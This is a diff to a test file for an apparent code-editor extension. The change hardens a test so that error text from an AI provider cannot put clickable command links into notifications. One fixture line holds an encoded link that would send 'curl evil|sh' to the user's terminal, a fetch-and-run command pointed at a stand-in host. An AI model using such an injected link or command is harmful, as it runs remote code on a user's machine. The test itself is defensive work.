@@ -214,14 +214,18 @@ describe('Rewrite Selection', () => {
     assert.equal(editor.document.getText(), CLASS_SOURCE.replace('return total;', 'return Math.round(total);'));
   });
 
-  it('a provider error reports the provider\'s message and changes nothing', async () => {
+  it('a provider error reports the provider\'s message in the log, never as a link in the notification, and changes nothing', async () => {
     const editor = await openUntitled(CLASS_SOURCE);
     select(editor, 2, 0, 4, 0);
-    fake.enqueue(openaiErrorReply(400, 'The model `fake-model` does not support this request'));
+    const link = '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
+    fake.enqueue(openaiErrorReply(400, `The model \`fake-model\` does not support this request. ${link}`, { code: '[x](command:chorus.setApiKey)' }));
     const result = await rewrite('use reduce');
     assert.equal(result.state, 'failed');
-    assert.match(result.message ?? '', /does not support this request/);
     assert.match(result.message ?? '', /OpenAI-compatible/);
+    assert.match(result.message ?? '', /HTTP 400/);
+    assert.doesNotMatch(result.message ?? '', /\]\(/, 'no link syntax reaches the notification');
+    assert.doesNotMatch(result.message ?? '', /does not support this request/, 'the provider\'s words stay out of the notification');
+    assert.match(result.details ?? '', /does not support this request/, 'the provider\'s words are in the details');
     assert.equal(editor.document.getText(), CLASS_SOURCE);
     assert.equal(api.currentRewrite(), undefined);
     assert.equal(previewTabs().length, 0);
